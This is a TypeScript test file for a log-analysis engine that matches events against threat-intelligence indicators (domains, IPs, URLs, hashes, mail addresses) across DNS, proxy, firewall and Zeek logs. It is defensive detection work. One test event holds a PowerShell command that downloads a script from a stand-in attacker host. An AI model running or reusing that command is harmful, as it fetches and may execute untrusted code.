// Tests of looking up events: fields of every log, free text, what is told, and what is only counted.
// SPDX-License-Identifier: EUPL-1.2
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { event } from '../engine/builders.ts'
import type { FieldValue } from '../event/event.ts'
import { isBroken, type LogEvent } from '../event/event.ts'
import { openLog } from '../parsers/list.ts'
import { indicatorOf } from './builders.ts'
import { eventLimits } from './limits.ts'
import { type IndicatorMatcherOptions, indicatorMatcherOf } from './matcher.ts'
import { observablesOf } from './observables.ts'
import { openIndicatorSet } from './set/open.ts'
import { writeIndicatorSet } from './set/write.ts'
import { onWarningList } from './warning-lists.ts'

const now = Date.UTC(2026, 10, 27, 10)
const sha256 = 'ab'.repeat(32)
const texts = [
  'evil.example',
  '192.0.2.7',
  '198.51.100.0/24',
  '2001:db8::7',
  'http://bad.example/x',
  'a@mail.example',
  sha256,
]
const setOf = (put: Parameters<typeof writeIndicatorSet>[0]) => openIndicatorSet(writeIndicatorSet(put))
const matcherOf = (
  options: Partial<IndicatorMatcherOptions> = {},
  put = texts.map((text) => indicatorOf(text)),
) => indicatorMatcherOf(setOf(put), { now: () => now, ...options })
const windows = (fields: Record<string, FieldValue>, at = now) =>
  event({ Computer: 'ws1', ...fields }, { at })

test('each field that holds something is looked up', () => {
  const cases: readonly (readonly [fields: Record<string, FieldValue>, reason: RegExp])[] = [
    [
      { DestinationIp: '192.0.2.7' },
      /^The address 192\.0\.2\.7 of DestinationIp is on the list "test list"\.$/,
    ],
    [
      { QueryName: 'WWW.Evil.Example.' },
      /^The domain evil\.example of QueryName \("WWW\.Evil\.Example\."\) is on/,
    ],
    [
      { QueryResults: 'type:  5 cdn.evil.example;::ffff:203.0.113.1;' },
      /domain evil\.example of QueryResults/,
    ],
    [{ QueryResults: '::ffff:192.0.2.7;' }, /address 192\.0\.2\.7 of QueryResults/],
    [{ Hashes: `SHA1=${'cd'.repeat(20)},SHA256=${sha256.toUpperCase()}` }, /SHA-256 abab.* of Hashes/],
    [{ 'id.resp_h': '198.51.100.77' }, /network 198\.51\.100\.0\/24 of id\.resp_h \("198\.51\.100\.77"\)/],
    [{ 'cs-host': 'evil.example', 'c-uri': '/index' }, /domain evil\.example of cs-host/],
    [{ 'cs-host': 'bad.example', 'c-uri': '/x?s=1' }, /web address bad\.example\/x of c-uri/],
    [{ 'c-uri': 'http://bad.example/x' }, /web address bad\.example\/x of c-uri/],
    [{ 'c-uri': 'evil.example:443' }, /domain evil\.example of c-uri/],
    [{ 'tls.sni': 'a.evil.example' }, /domain evil\.example of tls\.sni/],
    [{ 'fileinfo.sha256': sha256 }, /SHA-256/],
    [{ answers: ['1.2.3.4', '192.0.2.7'] }, /address 192\.0\.2\.7 of answers/],
    [{ mailfrom: '<A@Mail.example>' }, /mail address a@mail\.example of mailfrom/],
    [{ client_ip: '2001:0DB8::7' }, /address 2001:db8::7 of client_ip/],
    [{ message: 'connect to 192.0.2.7:4444 failed' }, /address 192\.0\.2\.7 of message/],
    [{ message: 'GET [http://bad.example/x] ok' }, /web address bad\.example\/x of message/],
    [{ CommandLine: `iwr -uri 'https://www.evil.example/a.ps1'` }, /domain evil\.example of CommandLine/],
    [{ message: `dst=192.0.2.7 hash=${sha256}` }, /address 192\.0\.2\.7/],
    [{ message: 'from=<a@mail.example>, to=<b@c.example>' }, /mail address a@mail\.example/],
    [{ message: 'peer [2001:db8::7]:443 closed.' }, /address 2001:db8::7/],
  ]
  for (const [fields, reason] of cases) {
    const [finding] = matcherOf().see(windows(fields))
    assert.match(finding?.reason ?? 'nothing was found', reason, JSON.stringify(fields))
  }
})

test('what only looks alike is no hit', () => {
  const matcher = matcherOf()
  for (const fields of [
    { QueryName: 'notevil.example' },
    { QueryName: 'evil.example.com' },
    { DestinationIp: '192.0.2.70' },
    { message: 'version 192.0.2.7.1 and evil.example.exe' },
    { Hashes: `SHA256=${sha256}00` },
    { 'cs-host': 'bad.example', 'c-uri': '/y' },
    { User: 'evil.example' },
  ])
    assert.deepEqual(matcher.see(windows(fields)), [], JSON.stringify(fields))
})

test('a finding says whose indicator it is, since when, and how sure', () => {
  const until = Date.UTC(2027, 2, 1)
  const id = '0a1b2c3d-0000-4000-8000-00000000000a'
  const facts = {
    id,
    since: Date.UTC(2026, 2, 1),
    until,
    confidence: 85,
    tlp: 'amber',
    source: 'CERT of a country',
    licence: 'CC0-1.0',
  } as const
  const matcher = matcherOf({ pack: { id: 'pack', sequence: 7 } }, [indicatorOf('evil.example', facts)])
  const [finding] = matcher.see(windows({ QueryName: 'evil.example' }))
  assert.equal(
    finding?.reason,
    'The domain evil.example of QueryName is on the list "test list" (since 2026-03-01, until 2027-03-01, confidence 85).',
  )
  assert.deepEqual(
    [
      finding.origin,
      finding.audience,
      finding.indicatorId,
      finding.ruleId,
      finding.level,
      finding.author,
      finding.licence,
    ],
    ['indicator', 'it', id, id, 'high', 'CERT of a country', 'CC0-1.0'],
  )
  assert.deepEqual(
    [finding.pack, finding.asset, finding.tags],
    [{ id: 'pack', sequence: 7 }, 'ws1', ['tlp.amber']],
  )
  const [incoming] = matcherOf({}, [indicatorOf('192.0.2.7', facts)]).see(windows({ SourceIp: '192.0.2.7' }))
  assert.equal(incoming?.level, 'medium', 'who comes in is one step less')
})

test('an indicator is told once an event, whatever names it, and again for the next', () => {
  const matcher = matcherOf()
  const see = () =>
    matcher
      .see(windows({ QueryName: 'evil.example', url: 'http://evil.example/' }))
      .filter(({ reason }) => /domain evil\.example/.test(reason)).length
  assert.deepEqual([see(), see()], [1, 1])
})

test('expired ones are not told but counted, by the time of the event', () => {
  const until = Date.UTC(2026, 10, 1)
  const matcher = matcherOf({}, [indicatorOf('x.evil.example', { until }), indicatorOf('evil.example')])
  const [finding] = matcher.see(windows({ QueryName: 'x.evil.example' }))
  assert.match(finding?.reason ?? '', /domain evil\.example of/, 'the name above still holds')
  assert.equal(matcher.untold.expired, 1)
  for (const [at, count] of [
    [until - 1, 1],
    [until, 0],
  ] as const)
    assert.equal(
      matcherOf({}, [indicatorOf('x.example', { until })]).see(windows({ QueryName: 'x.example' }, at))
        .length,
      count,
    )
})

test('the house itself and what lists name by mistake are not told but counted', () => {
  const put = [
    'tannau.example',
    '203.0.113.9',
    'http://www.tannau.example/x',
    '8.8.8.8',
    'google.com',
    'http://drive.google.com/file',
    '10.1.2.3',
  ].map((text) => indicatorOf(text))
  const matcher = matcherOf({ house: { domains: ['tannau.example'], networks: ['203.0.113.0/24'] } }, put)
  const see = (fields: Record<string, FieldValue>) => matcher.see(windows(fields)).length
  assert.equal(see({ QueryName: 'intranet.tannau.example' }), 0)
  assert.equal(see({ DestinationIp: '203.0.113.9' }), 0)
  assert.equal(see({ url: 'http://www.tannau.example/x' }), 0)
  assert.equal(matcher.untold.ofTheHouse, 4)
  assert.equal(see({ DestinationIp: '8.8.8.8' }), 0)
  assert.equal(see({ QueryName: 'www.google.com' }), 0)
  assert.equal(see({ SourceIp: '10.1.2.3' }), 0)
  assert.equal(matcher.untold.onWarningList, 3)
  assert.equal(see({ url: 'https://drive.google.com/file' }), 1, 'one page of a great site is told')
  assert.throws(() => matcherOf({ house: { domains: ['no domain'], networks: [] } }), /domains of the house/)
  assert.throws(
    () => matcherOf({ house: { domains: [], networks: ['10.0.0.0/99'] } }),
    /networks of the house/,
  )
})

test('every entry of the warning lists is in the form that is compared', () => {
  const warned = onWarningList()
  for (const text of [
    'windowsupdate.com',
    '172.16.5.5',
    'fe80::1',
    '2606:4700::1',
    '104.17.0.0/16',
    'd41d8cd98f00b204e9800998ecf8427e',
  ])
    assert.notEqual(warned(indicatorOf(text)), null, text)
  assert.equal(warned(indicatorOf('evil.windowsupdate.com')), null)
  assert.equal(warned(indicatorOf('http://windowsupdate.com/')) === null, false)
  assert.equal(warned(indicatorOf('someone@gmail.com')), null)
})

test('records of real formats meet indicators', async () => {
  const logs = [
    '{"timestamp":"2026-11-27T10:00:00.000000+0000","flow_id":1,"event_type":"tls","src_ip":"10.0.0.5","dest_ip":"203.0.113.80","tls":{"sni":"cdn.evil.example"}}\n',
    '1764237600.123    150 10.0.0.5 TCP_MISS/200 1500 GET http://bad.example/x - HIER_DIRECT/203.0.113.80 text/html\n',
    '27-Nov-2026 10:00:00.000 queries: info: client @0x7f 10.0.0.5#5353 (evil.example): query: evil.example IN A + (10.0.0.1)\n',
    '<34>Nov 27 10:00:00 fw1 kernel: IN=eth0 OUT=eth1 SRC=10.0.0.5 DST=192.0.2.7 PROTO=TCP SPT=50000 DPT=443 \n',
    '<34>Nov 27 10:00:00 gw1 app[1]: refused 192.0.2.7 after three tries\n',
    '#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.resp_h\n#types\ttime\taddr\taddr\n1764237600.0\t10.0.0.5\t198.51.100.9\n',
  ]
  for (const log of logs) {
    const matcher = matcherOf()
    let found = 0
    for await (const item of await eventsOf(log)) found += matcher.see(item).length
    assert.ok(found >= 1, log)
  }
})

async function eventsOf(log: string): Promise<readonly LogEvent[]> {
  async function* chunks() {
    yield Buffer.from(log)
  }
  const { items } = await openLog(chunks(), { source: 'test', now })
  const events: LogEvent[] = []
  for await (const item of items) {
    assert.ok(!isBroken(item), JSON.stringify(item))
    events.push(item)
  }
  return events
}

test('hostile events cost a bounded time and are told as cut', () => {
  const matcher = matcherOf()
  const before = process.cpuUsage()
  for (const text of [
    'a.'.repeat(100_000),
    'x'.repeat(200_000),
    '192.0.2.'.repeat(30_000),
    '://'.repeat(80_000),
    '@.:/['.repeat(50_000),
    'a.bc '.repeat(40_000),
  ])
    for (const field of ['message', 'QueryName', 'c-uri', 'Hashes', 'QueryResults', 'url', 'mailfrom'])
      for (let round = 0; round < 20; round++) matcher.see(windows({ [field]: text }))
  const { user, system } = process.cpuUsage(before)
  assert.ok(user + system < 10_000_000, `${user + system} µs`)
  assert.ok(matcher.untold.cut > 100)
  const many = observablesOf(
    windows({ answers: Array.from({ length: 900 }, (_, at) => `10.0.${at >> 8}.${at & 255}`) }),
  )
  assert.equal(many.observables.length, eventLimits.maxObservables)
  assert.ok(many.isCut)
})

test('no event makes it throw, and nothing that is not in the set is found', () => {
  const matcher = matcherOf({}, [])
  fc.assert(
    fc.property(
      fc.dictionary(
        fc.constantFrom(
          'message',
          'QueryName',
          'c-uri',
          'cs-host',
          'Hashes',
          'DestinationIp',
          '__proto__',
          'url',
          'from',
        ),
        fc.oneof(fc.string({ unit: 'binary' }), fc.webUrl(), fc.ipV6(), fc.emailAddress(), fc.constant(null)),
      ),
      (fields) => assert.deepEqual(matcher.see(windows(fields)), []),
    ),
    { numRuns: 150 },
  )
})
